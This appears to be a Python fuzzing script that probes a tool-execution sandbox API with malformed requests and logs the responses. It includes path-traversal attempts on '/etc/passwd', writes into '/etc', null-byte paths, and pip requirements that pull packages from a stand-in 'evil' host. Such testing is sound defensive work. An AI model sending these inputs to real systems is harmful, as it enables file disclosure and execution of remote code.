import json, os, threading, time, sys
from lettakit import ADD, LettaTest
from badkit import *
OUT = open("/tmp/bad-probe.txt", "w")
class P(BadTest):
    def raw(self, path, body):
        a = self.d.ask("POST", path, body if isinstance(body, bytes) else json.dumps(body).encode(), headers={"Content-Type": "application/json"})
        s = a.body.decode()
        try:
            j = a.json
            if "receipt" in j:
                j["receipt"] = j["receipt"].get("outcome")
                s = json.dumps(j)
        except Exception: pass
        print("==", path, str(body)[:120], "->", a.status, s[:400].strip(), file=OUT, flush=True)
    def test_p(self):
        r = self.raw
        r("/v1/tools/", {"source_code": ADD})
        self.put("echo", "return [a, b]", "a, b=None", json_schema={"name": "echo", "description": "d", "parameters": {"type": "object", "properties": {"a": {}, "b": {}}, "required": ["a"], "additionalProperties": False}})
        self.put("loose", "return [x]", "x")
        for a in ({"x": 1}, {"x": 1, "y": 2, "z": 3}, {"x": "one", "y": 2}, {"x": CODE if 0 else "1+1", "y": 1}, [1], "x", None, 5): r("/v1/tools/add/run", {"args": a})
        for a in ({}, {"a": 1, "class": 2}): r("/v1/tools/echo/run", {"args": a})
        for a in ({}, {"x": 1, "y": 2}, {"x": 1, "class": 2}): r("/v1/tools/loose/run", {"args": a})
        r("/v1/tools/echo/run", b'{"args": {"a": ' + b"[" * 64 + b"]" * 64 + b"}}")
        r("/v1/tools/echo/run", b'{"args": {"a": ' + b"[" * 61 + b"]" * 61 + b"}}")
        r("/v1/tools/echo/run", b'{"args": {"a": 1, "a": 2}}')
        r("/v1/tools/echo/run", b'\xef\xbb\xbf{}')
        r("/v1/tools/echo/run", b'')
        r("/v1/tools/echo/run", b'[]')
        r("/v1/tools/echo/run", b'{"args": {"a": 1}, "bogus": 1}')
        for to in (0, -1, 1e308, "x", 2**63, 1e-9): r("/v1/tools/echo/run", {"args": {"a": 1}, "timeout": to})
        for l in ({"memory": "9e99G"}, {"memory": 0}, {"pids": -1}, {"cpus": 1e-9}, {"bogus": 1}, {"disk": "1"}, {"memory": 1}): r("/v1/tools/echo/run", {"args": {"a": 1}, "limits": l})
        for n in ("nope", "..%2f..%2fetc", "a%00b", "%ff", "x" * 3000): r(f"/v1/tools/{n}/run", {})
        for k, v in (("env_vars", [1]), ("env_vars", {"A": None}), ("env_vars", {"A": "x" * 900000}), ("agent_id", "agent-x"), ("sandbox_id", "../x"), ("reuse", "all"), ("provider", "nope"), ("fallback", "x"), ("network", "nope"), ("secrets", [{"name": "n"}]), ("strict", 1), ("agent_state", [])): r("/v1/tools/echo/run", {"args": {"a": 1}, k: v})
        for s in ("def f(:\n    return 1\n", "x = 1\n", "", "def f(class):\n    return 1\n", "def f():\n    return 'a\0b'\n", "def lambda():\n    pass\n", 'def a():\n    """A."""\n    return "a"\n\ndef b():\n    """B."""\n    return "b"\n', "\ud800"):
            r("/v1/tools/", {"source_code": s})
            r("/v1/tools/run", {"source_code": s, "args": {}})
            r("/v1/tools/", {"source_code": s, "json_schema": {"name": "given", "description": "d", "parameters": {"type": "object"}}})
            r("/v1/tools/given/run", {"args": {}})
            r("/v1/run", {"language": "python", "code": s})
        for name in ("lambda", "run", "a b", "x" * 300, "../x", "a\n", "é", ""):
            r("/v1/tools/", {"source_code": source("f", "return 1"), "json_schema": {"name": name, "description": "d", "parameters": {"type": "object"}}})
        r("/v1/tools/lambda/run", {})
        for b in ({"language": "cobol", "code": "x"}, {"language": "python"}, {"command": []}, {"command": ["/nope"]}, {"command": "exit 300"}, {"command": ["sh", "-c", "kill -9 $$"]}, {"language": "python", "code": "x", "command": "y"}, {"language": "python", "code": "1", "files": [{"path": "../../etc/x", "content": "x"}]}, {"language": "python", "code": "1", "files": [{"path": "/etc/x", "content": "x"}]}, {"language": "python", "code": "1", "files": [{"path": "a\0b", "content": "x"}]}, {"language": "python", "code": "1", "collect": ["../../etc/passwd", "nope", "/etc/hostname"]}, {"language": "python", "code": "1", "pip_requirements": ["--index-url=http://x"]}, {"language": "python", "code": "1", "pip_requirements": ["x @ http://evil"]}, {"language": "python", "code": "1", "pip_requirements": ["./x"]}): r("/v1/run", b)
        for b in ({"stream": True, "args": {"a": 1}},): r("/v1/tools/echo/run", b)
